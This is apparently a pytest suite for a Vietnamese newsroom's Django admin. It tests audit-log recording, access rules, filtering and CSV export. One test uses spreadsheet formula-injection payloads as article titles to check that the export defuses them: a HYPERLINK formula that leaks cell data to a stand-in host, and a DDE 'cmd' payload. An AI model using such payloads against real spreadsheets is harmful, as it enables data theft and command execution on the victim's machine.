import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone
from reversion.models import Version

from articles import editing, revisions
from articles.models import Article
from clusters.models import Unit
from editorial import audit as audit_csv
from editorial import previews
from importer.models import Import
from newsroom import audit, roles
from newsroom.errors import WorkflowError
from newsroom.models import AuditEntry
from photos import clearance, references
from photos import editor as photo_editor
from photos.models import Photo
from tests.articles.factories import ArticleFactory, AuthorFactory, SectionFactory
from tests.articles.steps import step
from tests.clusters.admin_forms import unit_post
from tests.clusters.factories import UnitFactory
from tests.editorial.article_form import admin_url, change_url, form_data
from tests.photos.factories import PhotoFactory
from tests.queries import count_queries

pytestmark = pytest.mark.django_db

EXPORT = "/admin/newsroom/auditentry/xuat-csv/"
LIST = reverse("admin:newsroom_auditentry_changelist")
HANOI = ZoneInfo("Asia/Ho_Chi_Minh")


def create_in_admin(client, editor):
    client.force_login(editor)
    article = ArticleFactory.build(section=SectionFactory(), slug="")
    byline = [(AuthorFactory(name="Trọng Tuấn"), "")]
    client.post(
        "/admin/articles/article/add/", form_data(article, bylines=byline, loaded_version="")
    )
    return Article.objects.get()


def edit_in_admin(client, editor):
    article = ArticleFactory()
    client.force_login(editor)
    client.post(change_url(article), form_data(article, title="Tiêu đề đã sửa"))
    return article


def delete_in_admin(client, editor):
    article = ArticleFactory(title="Bài sẽ bị xoá")
    client.force_login(editor)
    client.post(f"/admin/articles/article/{article.pk}/delete/", {"post": "yes"})
    return article


def restore(client, editor):
    article = ArticleFactory(title="Một")
    revisions.record(article, editor, "Một")
    version = Version.objects.get_for_object(article).get()
    article.title = "Hai"
    article.save()
    editing.restore_revision(article, version, editor)
    return article


def correct(client, editor):
    article = ArticleFactory(published=True)
    editing.add_correction(article, editor, "Bài ghi nhầm ngày hội nghị.")
    return article


def create_preview(client, editor):
    article = ArticleFactory()
    previews.create_preview_link(article, editor)
    return article


def revoke_preview(client, editor):
    article = ArticleFactory()
    link = previews.create_preview_link(article, editor)
    previews.revoke_preview_link(link, editor)
    return article


def clear_photo(client, editor):
    photo = PhotoFactory(is_sensitive=True, sensitive_reason=Photo.SensitiveReason.MINOR)
    clearance.clear_photo(photo, editor)
    return photo


def as_records_officer(client, editor):
    editor.groups.add(Group.objects.get(name=roles.RECORDS))
    client.force_login(editor)


def create_record_in_admin(client, editor):
    as_records_officer(client, editor)
    client.post("/admin/clusters/unit/add/", unit_post("Công an tỉnh Hà Tĩnh", "01/10/1991"))
    return Unit.objects.get()


def edit_record_in_admin(client, editor):
    unit = UnitFactory(name="Công an tỉnh Hà Tinh")
    as_records_officer(client, editor)
    client.post(
        f"/admin/clusters/unit/{unit.pk}/change/", unit_post("Công an tỉnh Hà Tĩnh", "01/10/1991")
    )
    return unit


def delete_record_in_admin(client, editor):
    unit = UnitFactory(name="Công an tỉnh sẽ xoá")
    as_records_officer(client, editor)
    client.post(f"/admin/clusters/unit/{unit.pk}/delete/", {"post": "yes"})
    return unit


def change_photo_in_use(client, editor):
    photo = PhotoFactory(caption="Cũ")
    article = ArticleFactory(cover=photo)
    photo_editor.update_from_editor(
        f'<figure class="image"><img src="{references.editor_src(photo.pk)}" alt="">'
        "<figcaption>Mới</figcaption></figure>",
        editor,
    )
    return article


def publish_imported_with_its_date(client, editor):
    article = ArticleFactory()
    Import.objects.create(
        article=article, source=Import.Source.DOCX, original_date=dt.date(2020, 7, 17)
    )
    step("publish_archive", article, editor, at=dt.datetime(2020, 7, 17, 9, tzinfo=HANOI))
    return article


def workflow_step(name, **state):
    def run(client, editor):
        article = ArticleFactory(**state)
        inputs = {
            "return": {"note": "Thiếu số liệu."},
            "schedule": {"at": timezone.now() + dt.timedelta(days=1)},
        }.get(name, {})
        step(name, article, editor, **inputs)
        return article

    return run


CASES = {
    "article.created": create_in_admin,
    "article.edited": edit_in_admin,
    "article.submitted": workflow_step("submit"),
    "article.returned": workflow_step("return", in_review=True),
    "article.published": workflow_step("publish"),
    "article.scheduled": workflow_step("schedule"),
    "article.published_archive": publish_imported_with_its_date,
    "article.unpublished": workflow_step("unpublish", published=True),
    "article.restored": restore,
    "article.corrected": correct,
    "article.deleted": delete_in_admin,
    "photo.cleared": clear_photo,
    "record.created": create_record_in_admin,
    "record.edited": edit_record_in_admin,
    "record.deleted": delete_record_in_admin,
    "photo.changed": change_photo_in_use,
    "preview.created": create_preview,
    "preview.revoked": revoke_preview,
}


def test_every_registered_action_has_a_test():
    assert set(CASES) == {key for key, _label in audit.registered_actions()}


@pytest.mark.parametrize("action", list(CASES))
def test_each_action_lands_in_the_audit_log_naming_its_subject(action, client, editor):
    subject = CASES[action](client, editor)
    entry = AuditEntry.objects.filter(action=action).get()
    assert entry.actor == editor
    assert entry.actor_name == "Nguyễn Văn An"
    assert entry.content_type == ContentType.objects.get_for_model(subject)
    assert entry.object_id == subject.pk
    stored = type(subject).objects.filter(pk=subject.pk).first() or subject  # or deleted
    assert entry.object_repr == str(stored)
    assert audit.describe(entry).action == audit.action_label(action) != action


@pytest.mark.parametrize("action", list(CASES))
def test_details_are_machine_keys_and_json_values(action, client, editor):
    CASES[action](client, editor)
    entry = AuditEntry.objects.filter(action=action).get()
    for key, value in entry.details.items():
        assert audit.DETAIL_KEY_RE.match(key), key
        assert value is None or isinstance(value, bool | int | float | str | list), value


def test_an_entry_outlives_its_article(client, editor):
    article = delete_in_admin(client, editor)
    entry = AuditEntry.objects.get(action="article.deleted")
    assert not Article.objects.filter(pk=article.pk).exists()
    assert entry.object_id == article.pk
    assert entry.object_repr == "Bài sẽ bị xoá"


def test_a_refused_step_leaves_no_entry(editor):
    article = ArticleFactory(lead="")
    with pytest.raises(WorkflowError):
        step("publish", article, editor)
    assert not AuditEntry.objects.exists()


def test_an_edit_names_the_changed_fields_by_name_and_reads_them_by_label(client, editor):
    edit_in_admin(client, editor)
    entry = AuditEntry.objects.get(action="article.edited")
    assert entry.details["changed"] == ["title"]
    assert ("đã sửa", "tiêu đề") in audit.describe(entry).details


def test_a_publication_stores_its_time_as_iso_and_shows_it_vietnamese_style(editor):
    moment = dt.datetime(2026, 11, 27, 3, 5, tzinfo=dt.UTC)
    article = ArticleFactory()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(timezone, "now", lambda: moment)
        step("publish", article, editor)
    entry = AuditEntry.objects.get(action="article.published")
    assert entry.details == {
        "version": article.version,
        "published_at": "2026-11-27T10:05:00+07:00",
    }
    assert dict(audit.describe(entry).details)["đăng lúc"] == "10:05 ngày 27/11/2026"


# --- Recording and describing -------------------------------------------------------------


def test_record_turns_dates_into_iso_text(editor):
    entry = audit.record(
        "article.edited",
        editor,
        ArticleFactory(),
        at=dt.datetime(2026, 11, 27, 3, 5, tzinfo=dt.UTC),
        day=dt.date(2026, 11, 27),
        names=("a", "b"),
    )
    entry.refresh_from_db()
    assert entry.details == {
        "at": "2026-11-27T10:05:00+07:00",
        "day": "2026-11-27",
        "names": ["a", "b"],
    }


@pytest.mark.parametrize(
    ("action", "details", "error"),
    [
        ("article.edited", {"thing": object()}, TypeError),
        ("article.edited", {"who": {1: "số làm khoá"}}, TypeError),
        ("article.edited", {"phiên_bản": 3}, ValueError),
        ("article.edited", {"Version": 3}, ValueError),
        ("Sửa bài", {}, ValueError),
        ("edited", {}, ValueError),
    ],
)
def test_record_refuses_anything_but_machine_keys_and_json_values(action, details, error, editor):
    with pytest.raises(error):
        audit.record(action, editor, None, **details)
    assert not AuditEntry.objects.exists()


def test_unknown_keys_show_as_they_are(editor):
    entry = audit.record("khac.viec_la", editor, None, so_luong=3, ds=["x", "y"])
    described = audit.describe(entry)
    assert described.action == "khac.viec_la"
    assert described.details == (("so_luong", "3"), ("ds", "x, y"))
    assert described.subject_kind == ""


def test_labels_are_applied_when_shown_so_old_entries_take_new_wording(editor, monkeypatch):
    entry = audit.record("article.published", editor, ArticleFactory())
    monkeypatch.setitem(audit._actions, "article.published", "Cho lên trang")
    assert audit.describe(entry).action == "Cho lên trang"


def test_an_action_cannot_be_labelled_twice_differently():
    from django.core.exceptions import ImproperlyConfigured

    audit.register_action("article.published", audit.action_label("article.published"))
    with pytest.raises(ImproperlyConfigured):
        audit.register_action("article.published", "Nhãn khác")


# --- The admin ------------------------------------------------------------------------


def test_editors_read_the_log_in_vietnamese(client, editor):
    article = ArticleFactory(title="Hội nghị Cụm thi đua số 5")
    step("submit", article, editor)
    client.force_login(editor)
    html = client.get(LIST).content.decode()
    assert "Hội nghị Cụm thi đua số 5" in html
    assert '<td class="field-action_label">Gửi duyệt</td>' in html
    assert f'href="{change_url(article)}"' in html


def test_reporters_do_not_read_the_log(client, reporter):
    client.force_login(reporter)
    assert client.get(LIST).status_code == 403
    assert client.get(EXPORT).status_code == 403


def test_the_log_cannot_be_written_in_the_admin(client, editor):
    entry = audit.record("article.published", editor, ArticleFactory())
    client.force_login(editor)
    assert client.get("/admin/newsroom/auditentry/add/").status_code == 403
    response = client.post(f"/admin/newsroom/auditentry/{entry.pk}/delete/", {"post": "yes"})
    assert response.status_code == 403
    assert AuditEntry.objects.filter(pk=entry.pk).exists()


def test_the_log_filters_by_action_named_in_vietnamese(client, editor):
    audit.record("article.published", editor, ArticleFactory(title="Bài được đăng"))
    audit.record("article.submitted", editor, ArticleFactory(title="Bài gửi duyệt"))
    client.force_login(editor)
    page = client.get(LIST)
    choices = dict(page.context["cl"].filter_specs[0].lookup_choices)
    assert choices["article.published"] == "Đăng bài"
    html = client.get(LIST, {"action": "article.published"}).content.decode()
    assert "Bài được đăng" in html
    assert "Bài gửi duyệt" not in html


def test_the_log_filters_by_kind_of_subject(client, editor):
    audit.record("article.published", editor, ArticleFactory(title="Một bài viết"))
    photo = PhotoFactory(caption="Ảnh hội trường")
    audit.record("photo.cleared", editor, photo)
    client.force_login(editor)
    photo_type = ContentType.objects.get_for_model(Photo)
    html = client.get(LIST, {"loai": photo_type.pk}).content.decode()
    assert "Ảnh hội trường" in html
    assert "Một bài viết" not in html


def test_the_log_searches_subjects(client, editor):
    audit.record("article.published", editor, ArticleFactory(title="Công an Hà Tĩnh"))
    audit.record("article.published", editor, ArticleFactory(title="Công an Nghệ An"))
    client.force_login(editor)
    html = client.get(LIST, {"q": "Hà Tĩnh"}).content.decode()
    assert "Công an Hà Tĩnh" in html
    assert "Công an Nghệ An" not in html


def test_an_entry_about_a_deleted_article_does_not_link_to_it(client, editor):
    delete_in_admin(client, editor)
    html = client.get(LIST).content.decode()
    assert "Bài sẽ bị xoá" in html
    assert "/admin/articles/article/" not in html.split('id="result_list"')[1]


def read_csv(response):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_export_opens_with_vietnamese_intact(client, editor):
    article = ArticleFactory(title="Đồng chí Đại tá Hồ Văn Tứ dự hội nghị")
    step("return", ArticleFactory(in_review=True), editor, note="Thiếu ảnh")
    audit.record(
        "article.published",
        editor,
        article,
        published_at=dt.datetime(2026, 11, 27, 3, 5, tzinfo=dt.UTC),
    )
    client.force_login(editor)
    response = client.get(EXPORT)
    raw, rows = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert rows[0] == audit_csv.CSV_HEADER
    published = next(row for row in rows[1:] if row[3] == "Đăng bài")
    assert published[1] == "Nguyễn Văn An"
    assert published[4] == "bài viết"
    assert published[5] == "Đồng chí Đại tá Hồ Văn Tứ dự hội nghị"
    assert published[6] == str(article.pk)
    assert published[7] == "đăng lúc: 10:05 ngày 27/11/2026"
    returned = next(row for row in rows[1:] if row[3] == "Trả lại phóng viên")
    assert "ý kiến: Thiếu ảnh" in returned[7]


def test_csv_export_follows_the_list_filters(client, editor):
    audit.record("article.published", editor, ArticleFactory(title="Bài được đăng"))
    audit.record("article.submitted", editor, ArticleFactory(title="Bài gửi duyệt"))
    client.force_login(editor)
    _, rows = read_csv(client.get(EXPORT, {"action": "article.submitted"}))
    assert [row[5] for row in rows[1:]] == ["Bài gửi duyệt"]


def test_the_list_links_to_the_export_with_its_filters(client, editor):
    client.force_login(editor)
    html = client.get(LIST, {"action": "article.published"}).content.decode()
    assert f'href="{EXPORT}?action=article.published"' in html


def test_history_and_preview_tools_are_on_the_change_form(client, editor):
    article = ArticleFactory(published=True)
    client.force_login(editor)
    html = client.get(change_url(article)).content.decode()
    for url in ["revisions", "preview_links", "correction"]:
        assert f'href="{admin_url(url, article)}"' in html


def test_the_article_history_lists_its_log_labelled(client, editor):
    article = ArticleFactory()
    step("submit", article, editor)
    step("return", article, editor, note="Bổ sung tên đơn vị chủ trì.")
    previews.create_preview_link(article, editor)
    client.force_login(editor)
    html = client.get(admin_url("revisions", article)).content.decode()
    log = html.split('id="nhat-ky"')[1]
    for label in ["Gửi duyệt", "Trả lại phóng viên", "Tạo liên kết xem trước"]:
        assert label in log
    assert "ý kiến: Bổ sung tên đơn vị chủ trì." in log


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
        "+cmd|'/c calc'!A1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
    ],
)
def test_csv_export_never_hands_a_spreadsheet_a_formula(title, client, editor, reporter):
    # A reporter types the title; the editor opens the export in a spreadsheet program.
    audit.record("article.created", reporter, ArticleFactory(title=title))
    client.force_login(editor)

    _, rows = read_csv(client.get(EXPORT))

    cell = rows[1][5]
    assert cell[0] not in "=+-@\t\r"
    assert cell.endswith(title.strip())


def logged_edits(count, editor):
    for _ in range(count):
        audit.record("article.edited", editor, ArticleFactory(), changed=["title"])


def test_the_log_list_queries_do_not_grow_with_entries(client, editor, django_assert_num_queries):
    client.force_login(editor)
    logged_edits(1, editor)
    client.get(LIST)  # warm up session and content types
    baseline = count_queries(lambda: client.get(LIST))
    logged_edits(19, editor)
    with django_assert_num_queries(baseline):
        response = client.get(LIST)
    assert response.content.decode().count("Sửa bài</td>") == 20


def test_the_history_queries_do_not_grow_with_entries(client, editor, django_assert_num_queries):
    article = ArticleFactory()
    client.force_login(editor)
    audit.record("article.edited", editor, article, changed=["title"])
    client.get(admin_url("revisions", article))
    baseline = count_queries(lambda: client.get(admin_url("revisions", article)))
    for _ in range(10):
        audit.record("article.edited", editor, article, changed=["lead"])
    with django_assert_num_queries(baseline):
        client.get(admin_url("revisions", article))
